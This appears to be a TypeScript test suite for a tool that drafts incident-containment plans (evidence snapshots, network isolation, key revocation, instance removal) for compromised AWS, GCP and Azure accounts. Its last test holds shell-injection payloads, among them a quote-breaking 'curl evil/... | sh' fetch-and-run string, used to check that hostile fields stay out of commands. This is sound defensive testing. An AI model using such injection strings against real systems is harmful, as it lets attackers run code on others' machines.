import assert from 'node:assert/strict';
import { test } from 'node:test';
import { an0744Finding, INSTANCES, KEY } from '../../test/support/an0744-finding.js';
import type { Finding, PlanStep } from '../model/finding.js';
import { containmentPlan, platformOf } from './containment.js';

/** Commands proper: not the notes (comment lines) the plan prints beside them. */
function runnable(steps: PlanStep[]): string[] {
  return steps.flatMap((s) => s.commands).filter((c) => !c.startsWith('#'));
}

function notes(steps: PlanStep[]): string[] {
  return steps.flatMap((s) => s.commands).filter((c) => c.startsWith('#'));
}

function all(steps: PlanStep[]): string {
  return steps.flatMap((s) => s.commands).join('\n');
}

const SUBSCRIPTION = '0b1f6471-1bf0-4dda-aec3-cb9272f09590';
const VM = `/subscriptions/${SUBSCRIPTION}/resourcegroups/rg-ml/providers/microsoft.compute/virtualmachines/gpu-1`;

function gcpFinding(facts: Finding['facts'] = {}): Finding {
  return an0744Finding(
    { entity: 'instance:gcp:4567891234567890123', host: 'gcp:ml-research-7' },
    {
      provider: 'gcp',
      account: 'ml-research-7',
      region: 'us-central1',
      instances: ['4567891234567890123'],
      instance_count: 1,
      instance_types: ['n1-standard-8'],
      principal: 'ci-runner@ml-research-7.iam.gserviceaccount.com',
      principal_type: 'serviceAccount',
      access_key_id: 'b'.repeat(40),
      launch_operation: 'v1.compute.instances.insert',
      ...facts,
    },
  );
}

function azureFinding(facts: Finding['facts'] = {}): Finding {
  return an0744Finding(
    { entity: `instance:azure:${VM}`, host: `azure:${SUBSCRIPTION}` },
    {
      provider: 'azure',
      account: SUBSCRIPTION,
      region: 'eastus',
      instances: [VM],
      instance_count: 1,
      instance_types: ['Standard_NC6s_v3'],
      principal: '7f3e1c2a-1111-4a4b-9c9d-0123456789ab',
      principal_type: 'ServicePrincipal',
      access_key_id: [],
      launch_operation: 'Microsoft.Compute/virtualMachines/write',
      ...facts,
    },
  );
}

test('AN0744 on AWS: preserve first (snapshots, console, the key in CloudTrail), then isolate, revoke, remove, other regions, watch', () => {
  const f = an0744Finding();
  assert.equal(platformOf(f), 'aws');
  const steps = containmentPlan(f);
  assert.deepEqual(
    steps.map((s) => s.phase),
    ['preserve', 'isolate', 'patch', 'remove', 'remove', 'watch'],
  );
  const [preserve, isolate, revoke, remove, elsewhere, watch] = steps.map((s) => s.commands);
  assert.deepEqual(preserve.slice(0, 2), [
    'mkdir -p coalmine-evidence',
    `ids='${INSTANCES.join(' ')}'   # the 3 instance ids coalmine saw`,
  ]);
  // 20 launched, 3 seen: the rest by the call's launch minute and type
  assert.ok(
    preserve[2].startsWith(
      "ids=$(aws ec2 describe-instances --region us-east-1 --filters 'Name=launch-time,Values=2026-12-01T02:13*' 'Name=instance-type,Values=g4dn.xlarge' --query 'Reservations[].Instances[].InstanceId' --output text)",
    ),
    preserve[2],
  );
  assert.ok(
    preserve.some((c) =>
      c.startsWith(
        'for i in $ids; do aws ec2 create-snapshots --region us-east-1 --instance-specification InstanceId=$i --description "coalmine AN0744 $i" --copy-tags-from-source volume; done',
      ),
    ),
  );
  assert.ok(
    preserve.some((c) => c.includes('aws ec2 get-console-output --region us-east-1 --instance-id $i --latest')),
  );
  assert.ok(
    preserve.some((c) =>
      c.includes(
        `aws cloudtrail lookup-events --region "$r" --lookup-attributes AttributeKey=AccessKeyId,AttributeValue=${KEY} --start-time 2026-11-01T02:13:05Z`,
      ),
    ),
  );
  assert.ok(isolate.some((c) => c.includes('aws ec2 create-security-group --region us-east-1 --vpc-id "$vpc"')));
  assert.ok(
    isolate.some((c) =>
      c.startsWith(
        `aws ec2 revoke-security-group-egress --region us-east-1 --group-id "$sg" --ip-permissions 'IpProtocol=-1,IpRanges=[{CidrIp=0.0.0.0/0}]'`,
      ),
    ),
  );
  assert.ok(
    isolate.some((c) =>
      c.startsWith(
        'for i in $ids; do aws ec2 modify-instance-attribute --region us-east-1 --instance-id $i --groups "$sg"; done',
      ),
    ),
  );
  assert.equal(
    revoke[0].split('   #')[0],
    `aws iam update-access-key --status Inactive --access-key-id ${KEY} --user-name 'ci-deploy'`,
  );
  assert.ok(remove.some((c) => c.startsWith('aws ec2 stop-instances --region us-east-1 --instance-ids $ids')));
  assert.ok(remove.includes('aws ec2 terminate-instances --region us-east-1 --instance-ids $ids'));
  assert.ok(
    remove.findIndex((c) => c.includes('describe-snapshots')) <
      remove.indexOf('aws ec2 terminate-instances --region us-east-1 --instance-ids $ids'),
    'terminate only after the snapshots are checked',
  );
  assert.ok(
    elsewhere[0].startsWith("for r in $(aws ec2 describe-regions --query 'Regions[].RegionName' --output text); do"),
  );
  assert.ok(elsewhere.some((c) => c.includes(`grep -F ${KEY}`)));
  assert.ok(watch.some((c) => c.startsWith('aws guardduty list-detectors --region us-east-1')));
  assert.ok(watch.some((c) => c.includes('put-metric-alarm') && c.includes('EstimatedCharges')));
  assert.equal(
    watch[2].split('   #')[0],
    "coalmine hunt 'cloudtrail/123456789012_CloudTrail_us-east-1.json' --fail-on low",
  );
});

test('AN0744 on AWS: a role session is revoked by a TokenIssueTime deny; groups and fleets are removed by kind; an attempt has nothing to stop', () => {
  const role = containmentPlan(
    an0744Finding(
      {},
      { principal: 'arn:aws:sts::123456789012:assumed-role/ml-batch/i-0abc', access_key_id: 'ASIAY34FZKBOKMUTVV7A' },
    ),
  );
  const revoke = role.find((s) => s.phase === 'patch')?.commands ?? [];
  assert.ok(
    revoke[0].startsWith(
      `aws iam put-role-policy --role-name 'ml-batch' --policy-name coalmine-revoke-older-sessions --policy-document "$(printf '{"Version":"2012-10-17","Statement":[{"Effect":"Deny","Action":"*","Resource":"*","Condition":{"DateLessThan":{"aws:TokenIssueTime":"%s"}}}]}' "$(date -u +%Y-%m-%dT%H:%M:%SZ)")"`,
    ),
    revoke[0],
  );
  assert.ok(!revoke.some((c) => c.includes('update-access-key')), 'a session key is not an IAM access key');
  assert.ok(all(role).includes('AttributeKey=AccessKeyId,AttributeValue=ASIAY34FZKBOKMUTVV7A'));

  const remove = (entity: string) => {
    const steps = containmentPlan(an0744Finding({ entity }, { instances: [] }));
    return { preserve: steps[0].commands, remove: steps[3].commands, isolate: steps[1].commands };
  };
  const asg = remove('instance:aws:123456789012:group:web-asg');
  assert.ok(
    asg.preserve.some((c) =>
      c.startsWith(
        "ids=$(aws autoscaling describe-auto-scaling-groups --region us-east-1 --auto-scaling-group-names 'web-asg'",
      ),
    ),
  );
  assert.ok(
    asg.isolate[0].startsWith(
      "aws autoscaling suspend-processes --region us-east-1 --auto-scaling-group-name 'web-asg'",
    ),
  );
  assert.ok(
    asg.remove.some((c) =>
      c.startsWith(
        "aws autoscaling delete-auto-scaling-group --region us-east-1 --auto-scaling-group-name 'web-asg' --force-delete",
      ),
    ),
  );
  const sfr = 'sfr-0b5e9ac1-2f4d-4c6e-8a1b-3c2d1e0f9a8b';
  assert.ok(
    remove(`instance:aws:123456789012:group:${sfr}`).remove.includes(
      `aws ec2 cancel-spot-fleet-requests --region us-east-1 --spot-fleet-request-ids ${sfr} --terminate-instances`,
    ),
  );
  const fleet = 'fleet-0b5e9ac1-2f4d-4c6e-8a1b-3c2d1e0f9a8b';
  assert.ok(
    remove(`instance:aws:123456789012:group:${fleet}`).remove.includes(
      `aws ec2 delete-fleets --region us-east-1 --fleet-ids ${fleet} --terminate-instances`,
    ),
  );

  const attempt = containmentPlan(
    an0744Finding(
      { entity: 'instance:aws:123456789012:attempt:ev-1' },
      { instances: [], instance_count: 0, denied_requests: 2 },
    ),
  );
  assert.ok(!runnable(attempt).some((c) => c.includes('$ids')), 'no instance commands for a denied call');
  assert.ok(runnable(attempt).some((c) => c.startsWith('aws iam update-access-key --status Inactive')));
  assert.ok(runnable(attempt).some((c) => c.includes('aws cloudtrail lookup-events')));
});

test('AN0744 on GCP and Azure: gcloud and az equivalents, preserve first', () => {
  const gcp = containmentPlan(gcpFinding());
  assert.equal(platformOf(gcpFinding()), 'gcp');
  const g = all(gcp);
  assert.equal(
    gcp[0].commands[1].split('   #')[0],
    "gcloud compute instances list --project ml-research-7 --filter 'id=(4567891234567890123)' --format 'value(name,zone.basename())' > coalmine-evidence/gcp.instances.txt",
  );
  assert.ok(g.includes('gcloud compute disks snapshot "$d" --zone "$zone" --project ml-research-7'));
  assert.ok(
    g.includes('gcloud compute instances get-serial-port-output "$name" --zone "$zone" --project ml-research-7'),
  );
  assert.ok(g.includes('--direction EGRESS --action DENY --rules all --destination-ranges 0.0.0.0/0'));
  assert.ok(
    g.includes(
      `gcloud iam service-accounts keys disable ${'b'.repeat(40)} --iam-account 'ci-runner@ml-research-7.iam.gserviceaccount.com' --project ml-research-7`,
    ),
  );
  assert.ok(g.includes('gcloud compute instances stop "$name" --zone "$zone" --project ml-research-7'));
  assert.ok(g.includes('gcloud compute instances delete "$name" --zone "$zone" --project ml-research-7 --quiet'));
  assert.ok(g.indexOf('disks snapshot') < g.indexOf('instances delete'));

  const azure = containmentPlan(azureFinding());
  assert.equal(platformOf(azureFinding()), 'azure');
  const a = all(azure);
  assert.ok(a.includes(`az vm show --ids '${VM}' > coalmine-evidence/azure.vms.json`));
  assert.ok(a.includes('az snapshot create -g "$rg" -n "coalmine-$(basename "$d")" --source "$d"'));
  assert.ok(
    a.includes(`az network nsg create --subscription ${SUBSCRIPTION} -g 'rg-ml' -n coalmine-isolate -l eastus`),
  );
  assert.ok(a.includes('--direction Outbound --access Deny'));
  assert.ok(a.includes('az ad sp credential reset --id 7f3e1c2a-1111-4a4b-9c9d-0123456789ab'));
  assert.ok(a.includes(`az vm deallocate --ids '${VM}'`));
  assert.ok(a.includes(`az vm delete --ids '${VM}' --yes`));
  assert.ok(a.indexOf('az snapshot create') < a.indexOf('az vm delete'));
  const user = all(containmentPlan(azureFinding({ principal: 'mallory@example.com', principal_type: 'User' })));
  assert.ok(user.includes("az ad user update --id 'mallory@example.com' --account-enabled false"));
  assert.ok(user.includes("'https://graph.microsoft.com/v1.0/users/mallory@example.com/revokeSignInSessions'"));
});

test('AN0744: every fact is hostile: what does not have its provider’s shape goes into no command, and the plan says why', () => {
  const MARK = 'PWNED';
  const payloads = [
    `i-0abc'; curl evil/${MARK} | sh; '`,
    `$(${MARK})`,
    `\`${MARK}\``,
    `a\n${MARK}`,
    `x;${MARK}`,
    `--${MARK}=1`,
    `${'a'.repeat(300)}${MARK}`,
  ];
  const cases: Array<[string, (facts: Finding['facts']) => Finding, string[]]> = [
    [
      'aws',
      (facts) => an0744Finding({}, facts),
      ['instances', 'access_key_id', 'region', 'account', 'principal', 'instance_types'],
    ],
    ['gcp', gcpFinding, ['instances', 'access_key_id', 'region', 'account', 'principal']],
    ['azure', azureFinding, ['instances', 'region', 'account', 'principal']],
  ];
  for (const [provider, make, keys] of cases)
    for (const key of keys)
      for (const payload of payloads) {
        const value = key === 'instances' || key === 'instance_types' ? [payload] : payload;
        const steps = containmentPlan(make({ [key]: value }));
        const label = `${provider} ${key} ${JSON.stringify(payload).slice(0, 60)}`;
        assert.ok(!runnable(steps).some((c) => c.includes(MARK)), label);
        const said = notes(steps).find((n) => n.includes('left out of every command'));
        assert.ok(said, label);
        assert.ok(!/[\u0000-\u001f]/.test(said), label);
      }
  // an entity naming a hostile group gets no group command either
  const group = containmentPlan(
    an0744Finding({ entity: `instance:aws:123456789012:group:x';${MARK};'` }, { instances: [] }),
  );
  assert.ok(!runnable(group).some((c) => c.includes(MARK)));
  assert.ok(notes(group).some((n) => /group ".*" is not an autoscaling group, spot fleet or fleet name/.test(n)));
  // no provider a plan knows: notes only
  const unknown = containmentPlan(an0744Finding({}, { provider: `aws'; ${MARK}` }));
  assert.equal(platformOf(an0744Finding({}, { provider: 'oci' })), 'cloud');
  assert.deepEqual(runnable(unknown), []);
});
